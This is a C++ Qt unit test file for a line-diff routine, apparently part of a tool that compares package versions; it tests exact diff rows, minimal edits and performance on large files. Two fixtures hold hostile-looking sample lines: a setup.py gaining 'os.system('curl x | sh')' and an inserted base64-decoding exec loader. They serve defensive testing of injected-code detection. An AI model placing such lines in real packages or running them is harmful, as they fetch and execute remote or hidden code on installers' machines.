// The version diff's line diff: exact rows on small hand-made texts, minimal edit counts, line splitting, and large
// inputs (a small change in a long file is found exactly and fast; two unrelated long files stay within the budget).
#include "line_diff.h"

#include <QElapsedTimer>
#include <QTest>

using namespace mph::app;

namespace {

QList<QByteArray> lines(std::initializer_list<const char *> text) {
    QList<QByteArray> out;
    for (const char *line : text)
        out.append(line);
    return out;
}

// Every line of both texts appears once, in order, and Same rows hold equal lines.
void checkCovers(const LineDiff &diff, const QList<QByteArray> &a, const QList<QByteArray> &b) {
    int nextLeft = 0, nextRight = 0;
    for (const DiffRow &row : diff.rows) {
        if (row.left >= 0) QCOMPARE(row.left, nextLeft++);
        if (row.right >= 0) QCOMPARE(row.right, nextRight++);
        if (row.kind == DiffKind::Same) QCOMPARE(a[row.left], b[row.right]);
        if (row.kind == DiffKind::Changed) QVERIFY(row.left >= 0 && row.right >= 0);
    }
    QCOMPARE(nextLeft, int(a.size()));
    QCOMPARE(nextRight, int(b.size()));
}

QList<QByteArray> numbered(int count, const char *prefix) {
    QList<QByteArray> out;
    out.reserve(count);
    for (int i = 0; i < count; ++i)
        out.append(QByteArray(prefix) + QByteArray::number(i));
    return out;
}

} // namespace

class TestLineDiff : public QObject {
    Q_OBJECT
  private slots:
    void splitsLines() {
        QCOMPARE(splitLines(""), QList<QByteArray>{});
        QCOMPARE(splitLines("a"), lines({"a"}));
        QCOMPARE(splitLines("a\n"), lines({"a"}));
        QCOMPARE(splitLines("a\r\nb\n\nc"), lines({"a", "b", "", "c"}));
    }

    void identicalTexts() {
        const auto a = lines({"x", "y", "z"});
        const LineDiff diff = diffLines(a, a);
        QVERIFY(diff.identical());
        QCOMPARE(diff.rows.size(), std::size_t(3));
        QCOMPARE(diff.rows[1], (DiffRow{1, 1, DiffKind::Same}));
    }

    void injectedPayloadIsAdded() {
        const auto a = lines({"from setuptools import setup", "", "setup(name='p')"});
        const auto b =
            lines({"from setuptools import setup", "import os", "os.system('curl x | sh')", "", "setup(name='p')"});
        const LineDiff diff = diffLines(a, b);
        const std::vector<DiffRow> expected{{0, 0, DiffKind::Same},
                                            {-1, 1, DiffKind::Added},
                                            {-1, 2, DiffKind::Added},
                                            {1, 3, DiffKind::Same},
                                            {2, 4, DiffKind::Same}};
        QCOMPARE(diff.rows, expected);
        QCOMPARE(diff.added, 2);
        QCOMPARE(diff.removed, 0);
        QVERIFY(!diff.approximate);
    }

    void replacedLineIsChanged() {
        const auto a = lines({"a", "b", "c", "d"});
        const auto b = lines({"a", "B", "c"});
        const LineDiff diff = diffLines(a, b);
        const std::vector<DiffRow> expected{
            {0, 0, DiffKind::Same}, {1, 1, DiffKind::Changed}, {2, 2, DiffKind::Same}, {3, -1, DiffKind::Removed}};
        QCOMPARE(diff.rows, expected);
        QCOMPARE(diff.changed, 1);
        QCOMPARE(diff.removed, 1);
    }

    void emptySides() {
        const auto a = lines({"a", "b"});
        LineDiff diff = diffLines({}, a);
        QCOMPARE(diff.added, 2);
        checkCovers(diff, {}, a);
        diff = diffLines(a, {});
        QCOMPARE(diff.removed, 2);
        QVERIFY(diffLines({}, {}).rows.empty());
    }

    // The classic example of Myers' paper: ABCABBA -> CBABAC takes 5 edits.
    void minimalEdits() {
        const auto a = lines({"A", "B", "C", "A", "B", "B", "A"});
        const auto b = lines({"C", "B", "A", "B", "A", "C"});
        const LineDiff diff = diffLines(a, b);
        checkCovers(diff, a, b);
        int same = 0;
        for (const DiffRow &row : diff.rows)
            same += row.kind == DiffKind::Same;
        QCOMPARE(same, 4); // the longest common subsequence: 7 + 6 - 2·4 = 5 edits
    }

    void smallChangeInALargeFileIsExactAndFast() {
        const QList<QByteArray> a = numbered(200000, "line ");
        QList<QByteArray> b = a;
        b.insert(100000, "exec(__import__('base64').b64decode(PAYLOAD))");
        b[150000] = "changed";
        b.removeAt(190000);
        QElapsedTimer timer;
        timer.start();
        const LineDiff diff = diffLines(a, b);
        QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
        QVERIFY(!diff.approximate);
        QCOMPARE(diff.added, 1);
        QCOMPARE(diff.changed, 1);
        QCOMPARE(diff.removed, 1);
        checkCovers(diff, a, b);
    }

    void unrelatedLargeFilesStayWithinTheBudget() {
        const QList<QByteArray> a = numbered(50000, "left ");
        const QList<QByteArray> b = numbered(60000, "right ");
        QElapsedTimer timer;
        timer.start();
        const LineDiff diff = diffLines(a, b, 2000);
        QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
        QVERIFY(diff.approximate);
        QCOMPARE(diff.changed, 50000);
        QCOMPARE(diff.added, 10000);
        checkCovers(diff, a, b);
    }

    void manyScatteredEditsWithinTheBudget() {
        const QList<QByteArray> a = numbered(20000, "l");
        QList<QByteArray> b = a;
        for (int i = 0; i < 20000; i += 40)
            b[i] = "edit" + QByteArray::number(i); // 500 changed lines: 1000 edits
        const LineDiff diff = diffLines(a, b);
        QVERIFY(!diff.approximate);
        QCOMPARE(diff.changed, 500);
        QCOMPARE(diff.added + diff.removed, 0);
        checkCovers(diff, a, b);
    }
};

QTEST_GUILESS_MAIN(TestLineDiff)
#include "tst_line_diff.moc"
